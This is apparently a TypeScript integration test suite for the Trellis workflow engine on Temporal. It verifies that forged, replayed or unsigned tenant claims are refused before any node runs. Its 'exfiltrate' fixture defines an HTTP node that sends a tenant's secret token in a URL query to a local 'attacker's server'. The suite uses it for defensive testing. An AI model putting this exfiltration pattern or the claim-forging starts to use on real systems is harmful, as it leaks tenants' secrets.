import http from 'node:http';
import { randomBytes, randomUUID } from 'node:crypto';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FastifyInstance } from 'fastify';
import { WorkflowFailedError, type WorkflowHandle } from '@temporalio/client';
import type { Worker } from '@temporalio/worker';
import { buildApp } from '../../src/api/app';
import { createNodeRegistry } from '../../src/activities';
import { ALLOW_LOOPBACK_ENV } from '../../src/activities/nodes/ssrf';
import type { WorkflowDefinition } from '../../src/domain/definition';
import { createApiKey } from '../../src/services/api-keys';
import { signClaim } from '../../src/crypto/claim-signing';
import { Keyring, generateKeyText, parseKey } from '../../src/crypto/keyring';
import { createTemporalGateway } from '../../src/temporal/gateway';
import { createTrellisWorker } from '../../src/worker';
import { DAG_WORKFLOW_TYPE, type DagWorkflowInput } from '../../src/contracts/dag-workflow';
import { MAP_BATCH_WORKFLOW_TYPE, MAP_WORKFLOW_TYPE, LOOP_WORKFLOW_TYPE } from '../../src/contracts/iteration-workflows';
import { createTestDatabase, type TestDatabase } from '../support/database';
import { connectTestServer, type ServerEnv } from '../support/temporal';

/*
 * Issue 22 item 4 on a real Temporal server, a real worker and a real Postgres: a Temporal client
 * that starts dagWorkflow itself with an inline definition and another tenant's tenantId gets
 * TenantClaimRefused before any node runs, and the loopback "attacker's server" sees nothing;
 * what Trellis starts (API, subworkflow children, map/loop children) still runs, and so do
 * unsigned workflowId starts, as the stored workflow's owner.
 */
const TOKEN = `acme-token-${randomBytes(6).toString('hex')}`;
let server: ServerEnv | undefined;
let database: TestDatabase;
let worker: Worker;
let running: Promise<void>;
let app: FastifyInstance;
let acmeKey: string;
let acme: string;
let globex: string;
let taskQueue: string;
const masterKeys = new Keyring(parseKey(generateKeyText(), 'master'));
const hits: string[] = [];
let target: http.Server;
let base: string;
const previousLoopback = process.env[ALLOW_LOOPBACK_ENV];

beforeAll(async () => {
  server = await connectTestServer('security (tenant claims) server tests');
  if (!server) return;
  process.env[ALLOW_LOOPBACK_ENV] = '1';
  database = await createTestDatabase();
  taskQueue = `trellis-claims-${randomUUID()}`;
  worker = await createTrellisWorker({
    connection: server.env.nativeConnection,
    namespace: server.env.namespace,
    taskQueue,
    db: database.db,
    masterKeys,
    payloadCodec: null,
    registry: createNodeRegistry(),
  });
  running = worker.run();
  app = await buildApp({ db: database.db, temporal: createTemporalGateway(server.env.client, taskQueue), catalog: createNodeRegistry().catalog(), masterKeys });
  ({ key: acmeKey, tenantId: acme } = await createApiKey(database.db, 'acme'));
  ({ tenantId: globex } = await createApiKey(database.db, 'globex'));
  const put = await api('PUT', '/secrets/TOKEN', { value: TOKEN });
  expect(put.statusCode, put.body).toBe(200);
  target = http.createServer((req, res) => {
    hits.push(req.url ?? '');
    res.setHeader('content-type', 'application/json');
    res.end('{"ok":true}');
  });
  await new Promise<void>((resolve) => target.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(target.address() as AddressInfo).port}`;
}, 180_000);

afterAll(async () => {
  if (!server) return;
  worker.shutdown();
  await running;
  await app.close();
  await new Promise<void>((resolve) => target.close(() => resolve()));
  await database.drop();
  await server.env.teardown();
  if (previousLoopback === undefined) delete process.env[ALLOW_LOOPBACK_ENV];
  else process.env[ALLOW_LOOPBACK_ENV] = previousLoopback;
}, 60_000);

function serverIt(name: string, fn: () => Promise<void>, timeout = 90_000): void {
  it(name, async (ctx) => {
    if (!server) return ctx.skip();
    await fn();
  }, timeout);
}

const api = (method: 'GET' | 'POST' | 'PUT', url: string, payload?: unknown) =>
  app.inject({ method, url, payload: payload as object, headers: { authorization: `Bearer ${acmeKey}` } });

/** Sends the tenant's secret to the loopback server, tagged so each test counts its own requests. */
const exfiltrate = (tag: string): WorkflowDefinition => ({
  name: 'exfiltrate',
  nodes: [{ id: 'send', type: 'http', config: { url: `${base}/${tag}?t={{ secrets.TOKEN }}` }, retry: { maximumAttempts: 1 } }],
});
const hitsOf = (tag: string) => hits.filter((u) => u.startsWith(`/${tag}`));

async function startRaw(type: string, args: unknown, workflowId = `outside-${randomUUID()}`): Promise<WorkflowHandle> {
  return server!.env.client.workflow.start(type, { taskQueue, workflowId, args: [args] });
}

/** The failure type of a run that failed, or 'COMPLETED'. */
async function outcomeOf(handle: WorkflowHandle): Promise<{ type: string; result?: { outputs: Record<string, unknown> } }> {
  try {
    return { type: 'COMPLETED', result: (await handle.result()) as { outputs: Record<string, unknown> } };
  } catch (err) {
    if (!(err instanceof WorkflowFailedError)) throw err;
    const cause = err.cause as { type?: string; details?: unknown[] };
    const details = cause.details?.[0] as { error?: { type?: string } } | undefined;
    return { type: details?.error?.type ?? cause.type ?? 'unknown' };
  }
}

async function activitiesScheduled(handle: WorkflowHandle): Promise<number> {
  const events = (await handle.fetchHistory()).events ?? [];
  return events.filter((e) => e.activityTaskScheduledEventAttributes || e.startChildWorkflowExecutionInitiatedEventAttributes).length;
}

async function storeWorkflow(definition: WorkflowDefinition): Promise<string> {
  const created = await api('POST', '/workflows', { name: definition.name, definition });
  expect(created.statusCode, created.body).toBe(201);
  return created.json().id as string;
}

async function startThroughApi(workflowId: string): Promise<WorkflowHandle> {
  const started = await api('POST', '/executions', { workflowId, input: {} });
  expect(started.statusCode, started.body).toBe(202);
  return server!.env.client.workflow.getHandle(started.json().id as string);
}

describe('starts from outside Trellis that claim a tenant', () => {
  serverIt("an inline definition with another tenant's tenantId fails TenantClaimRefused, and the attacker's server gets nothing", async () => {
    const handle = await startRaw(DAG_WORKFLOW_TYPE, { tenantId: acme, definition: exfiltrate('unsigned') } satisfies DagWorkflowInput);
    expect((await outcomeOf(handle)).type).toBe('TenantClaimRefused');
    expect(hitsOf('unsigned')).toEqual([]);
    expect(await activitiesScheduled(handle)).toBe(0);
    // No run row either: the mirror never started.
    expect(await database.db.execution.count({ where: { id: handle.workflowId } })).toBe(0);
  });

  serverIt('a claim signed for another run id, a forged one, or a signed start with the tenant swapped is refused too', async () => {
    const signedElsewhere = await signClaim(database.db, 'ex_some_other_run', { tenantId: acme, definition: exfiltrate('replayed') });
    const signedForGlobex = await signClaim(database.db, 'swap', { tenantId: globex, definition: exfiltrate('swapped') });
    const attempts: unknown[] = [
      signedElsewhere,
      { tenantId: acme, definition: exfiltrate('forged'), claim: { v: 1, sig: randomBytes(32).toString('base64url') } },
    ];
    for (const args of attempts) expect((await outcomeOf(await startRaw(DAG_WORKFLOW_TYPE, args))).type).toBe('TenantClaimRefused');
    const swapped = await startRaw(DAG_WORKFLOW_TYPE, { ...signedForGlobex, tenantId: acme }, 'swap');
    expect((await outcomeOf(swapped)).type).toBe('TenantClaimRefused');
    expect([...hitsOf('replayed'), ...hitsOf('forged'), ...hitsOf('swapped')]).toEqual([]);
  });

  serverIt('map, map-batch and loop workflows started without a parent that name a tenant are refused before their body runs', async () => {
    const node = { id: 'each', type: 'map', config: { items: '[1]', body: { nodes: [{ id: 'send', type: 'http', config: { url: `${base}/orphan` } }], edges: [] } } };
    const scope = { tenantId: acme, node, context: { input: {}, nodes: {}, execution: { id: 'x', workflowId: '', version: 0, startedAt: new Date().toISOString() } }, defaults: undefined, idPrefix: '' };
    for (const type of [MAP_WORKFLOW_TYPE, MAP_BATCH_WORKFLOW_TYPE, LOOP_WORKFLOW_TYPE]) {
      const args = { ...scope, chunk: { start: 0, end: 1, items: [1] }, chunks: [{ start: 0, end: 1, items: [1] }], total: 1, concurrency: 1, maxFailures: 0, tolerated: 0, plan: { window: 1 } };
      const handle = await startRaw(type, args);
      expect((await outcomeOf(handle)).type, type).toBe('TenantClaimRefused');
      expect(await activitiesScheduled(handle)).toBe(0);
    }
    expect(hitsOf('orphan')).toEqual([]);
  });

  serverIt("an unsigned workflowId start runs as the workflow's owner; naming another tenant finds nothing", async () => {
    const workflowId = await storeWorkflow(exfiltrate('owner'));
    const own = await outcomeOf(await startRaw(DAG_WORKFLOW_TYPE, { workflowId } satisfies DagWorkflowInput));
    expect(own.type).toBe('COMPLETED');
    expect(hitsOf('owner')).toEqual([`/owner?t=${TOKEN}`]);
    const claimed = await outcomeOf(await startRaw(DAG_WORKFLOW_TYPE, { workflowId, tenantId: globex } satisfies DagWorkflowInput));
    expect(claimed.type).toBe('WorkflowNotFound');
    expect(hitsOf('owner')).toHaveLength(1);
  });

  serverIt('an unsigned inline definition without a tenant runs with no tenant: no secrets to resolve', async () => {
    const plain = await outcomeOf(await startRaw(DAG_WORKFLOW_TYPE, { definition: { name: 'plain', nodes: [{ id: 't', type: 'transform', config: { expression: '6 * 7' } }] } }));
    expect(plain).toMatchObject({ type: 'COMPLETED', result: { outputs: { t: 42 } } });
    const secretless = await outcomeOf(await startRaw(DAG_WORKFLOW_TYPE, { definition: exfiltrate('tenantless') }));
    expect(secretless.type).not.toBe('COMPLETED');
    expect(hitsOf('tenantless').filter((u) => u.includes(TOKEN))).toEqual([]);
  });
});

describe('starts Trellis makes still run', () => {
  serverIt("a run started through the API (signed) sends the tenant's own secret to its target", async () => {
    const handle = await startThroughApi(await storeWorkflow(exfiltrate('api')));
    expect((await outcomeOf(handle)).type).toBe('COMPLETED');
    expect(hitsOf('api')).toEqual([`/api?t=${TOKEN}`]);
  });

  serverIt('a subworkflow child and a map in batch children run for the tenant', async () => {
    const leaf = await storeWorkflow(exfiltrate('child'));
    const parent = await startThroughApi(await storeWorkflow({ name: 'parent', nodes: [{ id: 'call', type: 'subworkflow', config: { workflowId: leaf } }] }));
    expect((await outcomeOf(parent)).type).toBe('COMPLETED');
    expect(hitsOf('child')).toEqual([`/child?t=${TOKEN}`]);

    // Batch children only past the inline bound, which only a direct start can lower: signed as the API signs.
    // (Map bodies hold no secret references: a map runs in the workflow, where secrets never go.)
    const body = { nodes: [{ id: 'send', type: 'http', config: { url: `${base}/item/{{ item }}` }, retry: { maximumAttempts: 1 } }], edges: [] };
    const map: WorkflowDefinition = { name: 'map', nodes: [{ id: 'each', type: 'map', config: { items: '[1..6]', body } }] };
    const id = `claims-map-${randomUUID()}`;
    const args = await signClaim(database.db, id, { tenantId: acme, definition: map, iterationLimits: { inlineOperations: 2, batchSize: 2 } });
    const handle = await startRaw(DAG_WORKFLOW_TYPE, args, id);
    expect((await outcomeOf(handle)).type).toBe('COMPLETED');
    expect(hitsOf('item').sort()).toEqual([1, 2, 3, 4, 5, 6].map((i) => `/item/${i}`));
    const batch = await server!.env.client.workflow.getHandle(`${id}.each.0-1`).describe();
    expect(batch.type).toBe(MAP_BATCH_WORKFLOW_TYPE);
  });
});
